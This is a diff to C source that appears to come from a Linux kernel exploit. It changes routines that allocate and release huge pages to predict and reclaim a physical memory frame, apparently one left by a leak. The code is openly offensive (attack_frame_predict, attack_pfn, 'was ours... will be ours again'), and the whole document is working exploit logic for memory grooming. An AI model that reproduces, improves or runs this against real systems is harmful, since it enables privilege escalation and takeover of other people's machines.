@@ -37,7 +37,7 @@ static bool enough_is_revealed(void)
 {
 	struct bw_memory_info info = memory_now();
 
-	return info.nr_free_revealed > 2 * FRAMES_PER_BLOCK &&
+	return info.nr_free_revealed > 3 * FRAMES_PER_BLOCK &&
 	       info.nr_free_revealed + info.nr_free_hidden > info.nr_frames_usable / SHARE_LEFT;
 }
 
@@ -49,15 +49,6 @@ static struct huge_page huge_page_take(void)
 	page.pfn = attack_pfn(page.address);
 	page.was_revealed = memory_now().nr_free_revealed + FRAMES_PER_HUGE <= before;
 	return page;
-}
-
-/* True where it is in the direct map again. */
-static bool give_back(const struct huge_page *page)
-{
-	uint64_t before = memory_now().nr_free_revealed;
-
-	munmap(page->address, BW_HUGE_PAGE_SIZE);
-	return memory_now().nr_free_revealed >= before + FRAMES_PER_HUGE;
 }
 
 static void choose(const struct bw_leak *leak, uint64_t first_pfn, struct attack_frame *frame)
@@ -188,19 +179,27 @@ void attack_frame_find(const struct bw_leak *leak, struct attack_frame *frame)
 	}
 }
 
+/* Does what is given back go into the direct map? */
+static bool is_shown_again(void)
+{
+	return page_release(attack_pages(BW_PAGE_SIZE));
+}
+
 void attack_frame_predict(const struct bw_leak *leak, struct attack_frame *frame)
 {
 	struct huge_page lower, upper = { 0 };
 	int nr = 0;
 
+	if (!is_shown_again() && predict_kernels(leak, frame)) {
+		return;
+	}
 	do {
 		lower = upper;
 		upper = huge_page_take();
 	} while (!are_halves(&lower, &upper) && ++nr < HALVES_MAX);
 	choose(leak, upper.pfn, frame);
-	if (give_back(&upper) || !predict_kernels(leak, frame)) {
-		attack_say("frame 0x%lx was ours, is free, and will be ours again", frame->pfn);
-	}
+	munmap(upper.address, BW_HUGE_PAGE_SIZE);
+	attack_say("frame 0x%lx was ours, is free, and will be ours again", frame->pfn);
 }
 
 void *attack_frame_take(const struct attack_frame *frame)
